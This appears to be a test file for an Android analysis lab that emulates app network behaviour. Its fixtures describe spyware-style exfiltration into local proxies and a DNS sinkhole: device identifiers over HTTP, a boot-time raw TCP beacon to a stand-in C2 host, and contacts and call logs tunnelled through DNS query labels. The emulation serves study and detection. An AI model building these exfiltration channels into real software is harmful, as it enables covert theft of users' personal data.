import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Socket } from 'node:net';
import { gunzipSync } from 'node:zlib';
import * as mockttp from 'mockttp';
import { labImageSchema, type LabImage } from '../../src/android/lab-image.ts';
import { silentLogger } from '../../src/log.ts';
import { startBehaviours } from '../../src/lab/behaviour/index.ts';
import { deviceHost, ofType, startDnsServer } from '../support/lab-behaviour-test-network.ts';

function image(behaviours: unknown[]): LabImage {
  return labImageSchema.parse({
    version: 1,
    name: 'channels',
    description: 'one behaviour per network channel',
    build: {
      manufacturer: 'X',
      brand: 'x',
      model: 'X1',
      device: 'x1',
      product: 'x1',
      release: '7.0',
      sdk: 24,
      incremental: '1',
      securityPatch: '2017-01-05',
      abi: 'x86_64',
    },
    apps: [
      {
        package: 'com.example.channels',
        label: 'Channels',
        versionName: '1',
        versionCode: 1,
        path: '/system/app/Channels/Channels.apk',
        behaviours,
      },
    ],
  });
}

/**
 * The smallest HTTP proxy that tunnels raw TCP: answers every CONNECT with 200 and keeps what
 * the client writes afterwards, until the client closes its side.
 */
async function startRawTunnelProxy(): Promise<{
  port: number;
  tunnels: Array<{ target: string; data: Buffer }>;
  close(): Promise<void>;
}> {
  const tunnels: Array<{ target: string; data: Buffer }> = [];
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
    let received = Buffer.alloc(0);
    let tunnel: { target: string; data: Buffer } | undefined;
    socket.on('data', (chunk: Buffer) => {
      if (tunnel !== undefined) {
        tunnel.data = Buffer.concat([tunnel.data, chunk]);
        return;
      }
      received = Buffer.concat([received, chunk]);
      const end = received.indexOf('\r\n\r\n');
      if (end === -1) return;
      const target = /^CONNECT (\S+) HTTP\/1\.1\r\n/.exec(received.toString('latin1'))?.[1] ?? '?';
      tunnel = { target, data: received.subarray(end + 4) };
      tunnels.push(tunnel);
      socket.write('HTTP/1.1 200 Connection established\r\n\r\n');
    });
    socket.on('end', () => socket.end('bye'));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  assert.ok(address !== null && typeof address === 'object');
  return {
    port: address.port,
    tunnels,
    close: async () => {
      for (const socket of sockets) socket.destroy();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

test('plain HTTP goes through the proxy tunnel with the payload in a JSON field', async (t) => {
  const proxy = mockttp.getLocal();
  await proxy.start();
  t.after(() => proxy.stop());
  const dns = await startDnsServer();
  t.after(() => dns.close());
  const endpoint = await proxy.forAnyRequest().thenReply(204);
  const host = deviceHost(
    {
      dnsServer: { host: '127.0.0.1', port: dns.port },
      httpProxy: { host: '127.0.0.1', port: proxy.port },
    },
    [],
  );
  const runtime = startBehaviours(
    image([
      {
        id: 'stats',
        description: 'analytics over plain HTTP',
        trigger: { on: 'alarm', everyHours: 6 },
        collect: ['imei', 'android_id'],
        encode: [{ op: 'base64' }],
        send: {
          channel: 'http',
          host: 'stats.example.org',
          port: 8080,
          path: '/sa?project=default',
          carry: { as: 'json', field: 'data_list' },
        },
      },
    ]),
    host,
    silentLogger(),
  );
  const outcome = await runtime.runNow('stats');
  await runtime.stop();
  assert.equal(outcome.ok, true, JSON.stringify(outcome));
  const [request] = await endpoint.getSeenRequests();
  assert.ok(request);
  assert.equal(request.url, 'http://stats.example.org:8080/sa?project=default');
  const body = (await request.body.getJson()) as { data_list: string };
  const payload = JSON.parse(Buffer.from(body.data_list, 'base64').toString()) as {
    imei: string;
    android_id: string;
  };
  assert.equal(payload.imei, '356938035643809');
  assert.equal(payload.android_id, 'a1b2c3d4e5f60718');
  assert.deepEqual(
    ofType(host.events, 'net.connect').map((c) => [c.host, c.ip, c.port]),
    [['stats.example.org', '127.0.0.1', 8080]],
  );
  const sent = ofType(host.events, 'net.send')[0];
  assert.ok(sent);
  assert.ok(
    Buffer.from(sent.data, 'base64').toString().startsWith('POST /sa?project=default HTTP/1.1\r\n'),
  );
  assert.equal(ofType(host.events, 'tls.write').length, 0);
});

test('raw TCP writes the encoded bytes into a tunnel to the resolved address', async (t) => {
  const proxy = await startRawTunnelProxy();
  t.after(() => proxy.close());
  const dns = await startDnsServer();
  t.after(() => dns.close());
  const host = deviceHost(
    {
      dnsServer: { host: '127.0.0.1', port: dns.port },
      httpProxy: { host: '127.0.0.1', port: proxy.port },
    },
    [],
  );
  const runtime = startBehaviours(
    image([
      {
        id: 'beacon',
        description: 'a raw socket beacon',
        trigger: { on: 'boot', delaySeconds: 5 },
        collect: ['imsi', 'phone_number'],
        encode: [{ op: 'gzip' }],
        send: { channel: 'tcp', host: 'c2.example.org', port: 5555 },
      },
    ]),
    host,
    silentLogger(),
  );
  const outcome = await runtime.runNow('beacon');
  await runtime.stop();
  assert.equal(outcome.ok, true, JSON.stringify(outcome));
  assert.equal(proxy.tunnels.length, 1);
  assert.equal(proxy.tunnels[0]?.target, '127.0.0.1:5555');
  const payload = JSON.parse(gunzipSync(proxy.tunnels[0]?.data ?? Buffer.alloc(0)).toString()) as {
    imsi: string;
  };
  assert.equal(payload.imsi, '001010000012345');
  assert.deepEqual(dns.names, ['c2.example.org']);
  const sent = ofType(host.events, 'net.send')[0];
  assert.deepEqual(Buffer.from(sent?.data ?? '', 'base64'), proxy.tunnels[0]?.data);
});

test('the DNS channel spreads hex payload over labels of queries to the sinkhole', async (t) => {
  const dns = await startDnsServer();
  t.after(() => dns.close());
  const host = deviceHost(
    { dnsServer: { host: '127.0.0.1', port: dns.port }, httpProxy: { host: '127.0.0.1', port: 9 } },
    [],
  );
  const runtime = startBehaviours(
    image([
      {
        id: 'tunnel',
        description: 'contacts out by DNS',
        trigger: { on: 'sms-received' },
        collect: ['contacts', 'call_log'],
        encode: [{ op: 'gzip' }, { op: 'hex' }],
        send: { channel: 'dns', zone: 't.example.org' },
      },
    ]),
    host,
    silentLogger(),
  );
  const outcome = await runtime.runNow('tunnel');
  await runtime.stop();
  assert.equal(outcome.ok, true, JSON.stringify(outcome));
  const queried = ofType(host.events, 'dns.query').map((q) => q.name);
  assert.ok(queried.length >= 1);
  assert.deepEqual(dns.names, queried);
  const hex = queried.map((name) => name.split('.').slice(0, -4).join('')).join('');
  const payload = JSON.parse(gunzipSync(Buffer.from(hex, 'hex')).toString()) as {
    contacts: Array<{ name: string }>;
  };
  assert.equal(payload.contacts[0]?.name, 'Birute Canary');
});

test('a proxy that never answers: the send times out as an outcome and stop() waits for it', async (t) => {
  const sockets = new Set<Socket>();
  const silent = createServer((socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
  });
  await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve));
  t.after(async () => {
    for (const socket of sockets) socket.destroy();
    await new Promise<void>((resolve) => silent.close(() => resolve()));
  });
  const address = silent.address();
  assert.ok(address !== null && typeof address === 'object');
  const dns = await startDnsServer();
  t.after(() => dns.close());
  const host = deviceHost(
    {
      dnsServer: { host: '127.0.0.1', port: dns.port },
      httpProxy: { host: '127.0.0.1', port: address.port },
    },
    [],
  );
  const runtime = startBehaviours(
    image([
      {
        id: 'stuck',
        description: 'never gets through',
        trigger: { on: 'boot' },
        collect: ['imei'],
        send: { channel: 'https', host: 'slow.example.org', path: '/', carry: { as: 'body' } },
      },
    ]),
    host,
    silentLogger(),
    { sendTimeoutMs: 400 },
  );
  const started = Date.now();
  const running = runtime.runNow('stuck');
  await runtime.stop();
  const stoppedAfter = Date.now() - started;
  const outcome = await running;
  assert.ok(stoppedAfter >= 350, `stop() returned after ${stoppedAfter} ms, before the send ended`);
  assert.equal(outcome.ok, false);
  assert.ok(!outcome.ok && outcome.error.startsWith('lab-send-timeout'), JSON.stringify(outcome));
  assert.equal(ofType(host.events, 'net.connect').length, 0);
});
